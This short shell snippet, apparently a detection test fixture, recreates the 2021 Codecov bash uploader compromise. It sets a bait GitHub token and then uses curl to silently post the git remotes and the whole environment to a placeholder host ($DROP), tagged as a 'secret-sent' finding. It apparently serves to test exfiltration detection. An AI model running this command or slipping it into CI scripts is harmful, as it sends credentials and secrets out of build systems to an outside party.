# incident: Codecov's bash uploader (2021): one line sends the environment of the CI
# finding: secret-sent
# needs: curl
export GITHUB_TOKEN=ghp_0123456789baitbaitbaitbaitbaitbait00
curl -sm 5 -d "$(git remote -v 2>/dev/null)<<<<<< ENV $(env)" "http://$DROP/upload/v2" || true
